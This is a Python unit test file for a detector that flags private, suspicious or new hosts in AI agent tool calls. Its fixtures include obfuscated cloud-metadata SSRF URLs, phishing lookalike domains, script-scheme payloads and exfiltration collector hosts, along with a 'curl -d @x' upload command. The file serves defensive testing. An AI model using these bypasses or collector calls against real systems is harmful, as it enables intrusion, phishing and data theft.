"""Hosts: private, odd, new."""

from __future__ import annotations

from typing import Any

import pytest

from host.inspect.hosts.find import find_hosts
from host.inspect.hosts.private import reach
from host.inspect.subject import Past
from tests.support.effort import BOUND, effort
from tests.unit.host.inspect.calls import call, said, shown


def fetch(url: str, tool: str = "fetch") -> list[tuple[str, str]]:
    return [(finding.kind, finding.severity.value) for finding in find_hosts(call(tool, {"url": url}))]


@pytest.mark.parametrize(
    "url",
    [
        "http://169.254.169.254/latest/",
        "http://2852039166/",
        "http://0xa9fea9fe/",
        "http://0251.0376.0251.0376/",
        "http://[::ffff:169.254.169.254]/",
        "http://[fd00:ec2::254]/",
        "http://metadata.google.internal/",
        "http://100.100.100.200/",
        "http://168.63.129.16/",
        "http://169.254.169.254.nip.io/",
        "http://169-254-169-254.sslip.io/",
        "http://a9fea9fe.nip.io/",
        "https://x.example/?u=http%3A%2F%2F169.254.169.254%2F",
        "https://x.example/?u=http://169.254.169.254/",
        "http:\\\\169.254.169.254/",
    ],
)
def test_s29_the_clouds_metadata_is_grave_in_every_form(url: str) -> None:
    assert ("private-host", "high") in fetch(url)


@pytest.mark.parametrize(
    "url",
    [
        "http://localhost:3000/",
        "http://127.0.0.1/",
        "http://127.1/",
        "http://0/",
        "http://[::1]/",
        "http://10.0.0.1/",
        "http://192.168.1.1/",
        "http://172.16.0.9/",
        "http://100.64.1.1/",
        "http://db.internal/",
        "http://nas.local/",
        "http://x.corp/",
        "http://jenkins:8080/",
        "http://[fd12::1]/",
        "http://017700000001/",
        "http://lvh.me/",
        "http://①②⑦.0.0.1/",
        "http://x.lan/",
        "http://10.0.0.1.nip.io/",
    ],
)
def test_s29_private_addresses_are_named(url: str) -> None:
    assert ("private-host", "medium") in fetch(url)


@pytest.mark.parametrize("host", ["8.8.8.8", "203.0.113.5", "example.com", "2001:db8::1", "2606:4700::1111", "nip.io"])
def test_hosts_of_the_world_are_not_private(host: str) -> None:
    assert reach(host) == ""


GRAVE = [
    "https://github.com@evil.example/x",
    "https://good.example\\@evil.example/",
    "javascript:fetch('//x')",
    "java\tscript:alert(1)",
    "data:text/html,<script>",
    "gopher://x.example:70/_",
    "jar:http://x.example/a!/b",
    "ldap://x.example/a",
    "vbscript:x",
    "https://paypal.com.evil.example/login",
    "https://login-microsoft.com/",
    "https://stripe.com-pay.example/",
    "https://secure-paypal.tk/",
    "http://2130706433/",
    "https://x.oast.fun/?d=1",
    "https://webhook.site/a/b?d=1",
    "ht\ttps://example.org\t.evil.example/",
]
ODD = [
    "https://xn--pypal-4ve.com/",
    "https://páypal.example/",
    "https://www.zoorn.us/j/1",
    "https://s3.amazonaws.com.eu-central-1.files-cdn.example/x",
    "http://203.0.113.5/x",
    "https://evil.example:4444/",
    "file:///x",
    "https://bit.ly/x",
    "https://user:pw@x.example/",
    "http://x.example/?token=abc",
    "https://webhook.site/a",
    "https://x.ngrok.io/",
    "https://0123456789abcdef0123456789abcdef.evil.example/",
    "https://pastebin.com/raw/x",
    "http://abcdefghij.onion/",
    "https://login-now.duckdns.org/",
    "https://update.evil.xyz/setup.exe",
    "https://" + "a" * 50 + ".evil.example/",
]
PLAIN = [
    "https://github.com/a/b",
    "https://docs.python.org/3/",
    "https://example.com:443/x",
    "https://google.co.uk/",
    "data:image/png;base64,xx",
    "https://slack.mycorp.example/",
    "https://jira.company.example/browse/X-1",
    "https://api.stripe.com/v1/x",
    "s3://my-bucket/key",
    "https://microsoft.github.io/x",
    "https://x.example/a?b=1&c=2",
    "note://today",
    "mailto:x@y.example",
    "about:blank",
]


@pytest.mark.parametrize("url", GRAVE)
def test_s29_addresses_that_deceive_or_collect_are_grave(url: str) -> None:
    assert ("odd-host", "high") in fetch(url)


@pytest.mark.parametrize("url", ODD)
def test_odd_addresses_ask_to_look_closer(url: str) -> None:
    assert ("odd-host", "medium") in fetch(url)


@pytest.mark.parametrize("url", PLAIN)
def test_usual_addresses_are_neither_odd_nor_private(url: str) -> None:
    assert {kind for kind, _ in fetch(url)} <= {"new-host"}


@pytest.mark.parametrize(
    "host", ["webhook.site", "x.m.pipedream.net", "abc.ngrok-free.app", "transfer.sh", "eo.oastify.com"]
)
def test_sending_to_a_collector_is_grave(host: str) -> None:
    subject = call("http_request", {"method": "POST", "url": f"https://{host}/x", "body": "data"})
    assert "high" in said(find_hosts(subject), "odd-host")


@pytest.mark.parametrize(
    ("tool", "arguments", "severities"),
    [
        ("fetch", {"url": "https://new.example/x"}, ["info"]),
        ("fetch", {"url": "https://new.example/x?d=" + "a" * 200}, ["medium"]),
        ("http_post", {"url": "https://new.example/x", "body": "x"}, ["medium"]),
        ("send_email", {"to": ["a@new.example", "b@gmail.com", "c@new.example"], "body": "x"}, ["medium"]),
        ("create_event", {"attendees": [{"email": "a@new.example"}]}, ["medium"]),
        ("run_command", {"command": "curl -d @x new.example/up"}, ["medium"]),
        ("git_clone", {"url": "git@new.example:a/b.git"}, ["medium"]),
        ("query", {"sql": "SELECT dblink('host=new.example user=x')"}, ["medium"]),
        ("post_message", {"text": "log in at https://new.example/"}, ["medium"]),
        ("write_file", {"path": "a.md", "content": "see https://new.example/"}, []),
        ("fetch", {"url": "https://github.com/a/b"}, []),
    ],
)
def test_hosts_that_nothing_went_to_are_new(tool: str, arguments: dict[str, Any], severities: list[str]) -> None:
    assert said(find_hosts(call(tool, arguments)), "new-host") == severities


def test_a_host_that_was_approved_is_not_new_and_another_is_even_where_it_is_only_read() -> None:
    past = Past(known=True, hosts=frozenset({"new.example"}))
    assert not list(find_hosts(call("fetch", {"url": "https://new.example/x"}, past=past)))
    assert said(find_hosts(call("fetch", {"url": "https://other.example/x"}, past=past)), "new-host") == ["medium"]


@pytest.mark.parametrize(
    "arguments",
    [
        {"remote": "origin", "branch": "main"},
        {"origin": "Berlin", "destination": "Paris"},
        {"address": "12 Main St."},
        {"version": "1.2.3.4"},
        {"start": "2026-11-22T09:00:00+01:00"},
        {"cidr": "10.20.0.0/16"},
        {"path": "notes.txt"},
        {"to": "0x742d35Cc6634C0532925a3b844Bc454e4438f44e"},
        {"q": "javascript: the good parts"},
        {"body": "We talk of javascript: and localhost:3000, see http://localhost:3000/"},
    ],
)
def test_other_things_are_no_hosts(arguments: dict[str, Any]) -> None:
    assert not list(find_hosts(call("do", arguments)))


def test_prose_with_a_link_to_the_local_network_is_named() -> None:
    assert said(find_hosts(call("post", {"text": "see http://10.1.2.3/x"})), "private-host") == ["medium"]


def test_the_span_points_at_scheme_and_host() -> None:
    subject = call("fetch", {"url": "  see https://evil.example:4444/x"})
    odd = next(finding for finding in find_hosts(subject) if finding.kind == "odd-host")
    assert shown(odd, subject) == "https://evil.example:4444"


def test_many_hosts_have_few_findings() -> None:
    subject = call("post", {"text": " ".join(f"https://h{n}.example/" for n in range(500))})
    found = list(find_hosts(subject))
    assert len([finding for finding in found if finding.kind == "new-host"]) <= 20
    assert said(found, "not-inspected") == ["info"]


@pytest.mark.parametrize("url", ["https://www.müller.de/", "https://почта.рф/", "https://日本語.jp/"])
def test_an_honest_name_of_another_language_is_only_told(url: str) -> None:
    assert set(said(find_hosts(call("fetch", {"url": url})), "odd-host")) <= {"info"}


@pytest.mark.parametrize("piece", ["https://", "a@b.c ", "curl ", "x:", "http%3a%2f", "host=a.b ", "://", "javascript"])
@pytest.mark.parametrize("key", ["command", "url", "body"])
def test_hostile_texts_take_no_longer_than_their_length_asks(piece: str, key: str) -> None:
    subject = call("run", {key: piece * (200_000 // len(piece))})
    assert effort(lambda: list(find_hosts(subject))) < BOUND


def test_an_address_that_is_a_script_is_code_too_where_it_is_opened() -> None:
    opened, told = ({"url": "javascript:x()"}, {"body": "[a](javascript:x())"})
    assert said(find_hosts(call("navigate", opened)), "runs-code") == ["high"]
    assert said(find_hosts(call("post", told)), "runs-code") == []


@pytest.mark.parametrize(
    "url",
    [
        "https://example.com#@evil.example/",
        "https://amaz0n-login.example/",
        "https://accounts-google.signin.example/",
        "https://paypa1.example/",
        "http://evil.example%2f@good.example/",
        "https://microsoftlogin.example/",
    ],
)
def test_impostors_of_well_known_names_are_grave(url: str) -> None:
    assert ("odd-host", "high") in fetch(url)


def test_a_host_that_begins_like_this_machine_is_odd() -> None:
    assert ("odd-host", "medium") in fetch("http://localhost.evil.example/")


@pytest.mark.parametrize("query", ["metadata['order']:'88213-77'", "metadata['invoice']:'1.2'"])
def test_what_stands_in_a_query_is_no_address(query: str) -> None:
    assert list(find_hosts(call("search", {"query": query}))) == []
